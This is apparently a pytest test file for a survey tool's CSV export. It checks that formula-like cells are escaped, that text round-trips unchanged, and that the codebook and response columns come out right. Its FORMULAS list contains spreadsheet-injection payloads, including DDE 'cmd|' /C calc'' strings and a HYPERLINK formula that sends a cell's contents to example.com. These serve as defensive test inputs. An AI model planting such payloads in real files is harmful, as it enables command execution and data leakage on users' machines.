"""Spreadsheets: no word of anybody's runs as a formula, and every word comes back as it was."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coprod.questionnaires.rules.document import Document, Option, Question, Section
from coprod.statistics.spreadsheet import Response, codebook, guarded, read_back, responses, write

CHOICES = (Option("a"), Option("else", other=True), Option("no", prefer_not=True))
QUESTIONS = (
    Question("told", "information"),
    Question("who", "one_of", CHOICES),
    Question("how", "many_of", CHOICES),
    Question("calm", "scale", points=3),
    Question("story", "long_text"),
)
WORDS = {
    "en": {
        "who.title": "Who?",
        "who.a": "Myself",
        "how.title": "How?",
        "how.a": "By bus",
        "calm.title": "How calm?",
        "calm.low": "Not",
        "calm.high": "Very",
        "story.title": "What happened?",
    },
    "ur": {"who.title": "کون؟"},
}
DOCUMENT = Document((Section("s1", QUESTIONS),), WORDS)


def read(chunks: Iterable[bytes]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline=""), strict=True))


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\tplain",
    "\r=1",
    "\n=1",
    "\0=1",
    "\0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "﹦1",
    "\u22121",
    " =1+1",
    "\u00a0=1",
    "\u3000=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    '"=1+1"',
    "'=1+1",
    "' \"=1",
    "“=1",
    "”=1",
    "‘=1",
    "’=1",
    "`=1",
    "\x01=1",
    "\x85=1",
    '=HYPERLINK("http://example.com?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_start_a_formula_does_not(text: str) -> None:
    assert guarded(text) == "'" + text
    assert read_back(guarded(text)) == text


@pytest.mark.parametrize(
    "text", ["", "plain", "1", "a=1", "X-ray", "میں", "'quoted'", '"said"', " indented", "20 % – less", "é"]
)
def test_plain_words_are_left_alone(text: str) -> None:
    assert guarded(text) == text
    assert read_back(text) == text


@given(
    st.text(st.characters(codec="utf-8"), max_size=12),
    st.sampled_from(["", "=", "'", "'=", " +", '"-', "＠"]),
)
def test_every_text_comes_back_as_it_was(text: str, start: str) -> None:
    assert read_back(guarded(start + text)) == start + text


@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=12), min_size=1, max_size=4))
def test_every_row_is_read_as_the_cells_that_were_written(cells: list[str]) -> None:
    assert [[read_back(cell) for cell in row] for row in read(write([cells]))] == [cells]


def test_a_file_says_that_it_is_utf_8_and_quotes_every_cell() -> None:
    assert b"".join(write([["a", 1, None], ['say "so"', "x,y\nz", "ش"]])) == (
        '\ufeff"a","1",""\r\n"say ""so""","x,y\nz","ش"\r\n'.encode()
    )


def test_half_a_character_does_not_stop_a_file() -> None:
    assert b"".join(write([["a\ud800b"]])).endswith(b'"a?b"\r\n')


def a_response(**answers: object) -> Response:
    sealed = {question: {"state": "answered", "value": value} for question, value in answers.items()}
    return Response(("web",), sealed)


def test_one_row_is_one_response_and_columns_are_named_by_ids() -> None:
    first = Response(
        ("web", "2026-11-03"),
        {
            "who": {"state": "answered", "value": "else"},
            "how": {"state": "answered", "value": ["a"]},
            "calm": {"state": "answered", "value": 2},
            "story": {"state": "answered", "value": None},
        },
        {("who", "other"): "=me", ("story", ""): "It rained."},
    )
    second = Response(
        ("paper", "2026-11-04"),
        {"who": {"state": "refused", "value": "no"}, "how": {"state": "skipped", "value": None}},
    )

    head, *rows = read(responses(DOCUMENT, ("channel", "day"), [first, second]))

    assert head == [
        *("channel", "day", "who", "who:other", "who:state", "how.a", "how.else", "how.no", "how:other"),
        *("how:state", "calm", "calm:state", "story", "story:state"),
    ]
    assert [dict(zip(head, row, strict=True)) for row in rows] == [
        {
            **{
                "channel": "web",
                "day": "2026-11-03",
                "who": "else",
                "who:other": "'=me",
                "who:state": "answered",
            },
            **{"how.a": "1", "how.else": "0", "how.no": "0", "how:other": "", "how:state": "answered"},
            **{"calm": "2", "calm:state": "answered", "story": "It rained.", "story:state": "answered"},
        },
        {
            **{"channel": "paper", "day": "2026-11-04", "who": "no", "who:other": "", "who:state": "refused"},
            **{"how.a": "", "how.else": "", "how.no": "", "how:other": "", "how:state": "skipped"},
            **{"calm": "", "calm:state": "not_shown", "story": "", "story:state": "not_shown"},
        },
    ]


def test_columns_are_the_same_whoever_answered_what() -> None:
    heads = [read(responses(DOCUMENT, ["channel"], rows))[0] for rows in ([], [a_response(who="a")])]

    assert heads[0] == heads[1]
    assert len(set(heads[0])) == len(heads[0])


def test_a_file_is_made_as_it_is_read() -> None:
    taken: list[int] = []

    def endless() -> Iterator[Response]:
        while True:
            taken.append(1)
            yield a_response(calm=1)

    chunks = responses(DOCUMENT, ["channel"], endless())
    for _ in range(5):  # the mark, the header and three rows
        next(chunks)

    assert len(taken) == 3


CODEBOOK = """\
column|question|kind|value|question words|value words|meaning
who|who|one_of||Who?||the id of the option that was chosen, empty if none was
who|who|one_of|a|Who?|Myself|
who|who|one_of|else|Who?||
who|who|one_of|no|Who?||
who:other|who|one_of||Who?||the person's own words beside “other”
who:state|who|one_of||Who?||answered, skipped, refused (preferred not to say) or not_shown
how.a|how|many_of|a|How?|By bus|1 if chosen, 0 if not, empty if the question was not answered
how.else|how|many_of|else|How?||1 if chosen, 0 if not, empty if the question was not answered
how.no|how|many_of|no|How?||1 if chosen, 0 if not, empty if the question was not answered
how:other|how|many_of||How?||the person's own words beside “other”
how:state|how|many_of||How?||answered, skipped, refused (preferred not to say) or not_shown
calm|calm|scale||How calm?||a point of the scale, from 1 to the number of points, empty if none was chosen
calm|calm|scale|1|How calm?|Not|
calm|calm|scale|2|How calm?||
calm|calm|scale|3|How calm?|Very|
calm:state|calm|scale||How calm?||answered, skipped, refused (preferred not to say) or not_shown
story|story|long_text||What happened?||the person's own words
story:state|story|long_text||What happened?||answered, skipped, refused (preferred not to say) or not_shown
"""


def test_the_codebook_explains_every_column_and_every_value() -> None:
    rows = read(codebook(DOCUMENT))

    assert ["|".join(row) for row in rows] == CODEBOOK.splitlines()
    assert list(dict.fromkeys(row[0] for row in rows[1:])) == read(responses(DOCUMENT, [], []))[0]


def test_a_codebook_speaks_the_language_that_is_asked_for() -> None:
    first = read(codebook(DOCUMENT, "ur", str.upper))[1]

    assert first[4] == "کون؟"
    assert first[6] == "THE ID OF THE OPTION THAT WAS CHOSEN, EMPTY IF NONE WAS"


def test_an_answer_in_a_form_that_nobody_knows_leaves_its_cells_empty() -> None:
    strange = Response((), {"who": {"state": "answered", "value": ["a"]}, "how": {"value": "a"}, "calm": {}})

    head, row = read(responses(DOCUMENT, [], [strange]))

    assert {name: cell for name, cell in zip(head, row, strict=True) if cell} == {
        "who:state": "answered",
        **dict.fromkeys(("how:state", "calm:state", "story:state"), "not_shown"),
    }
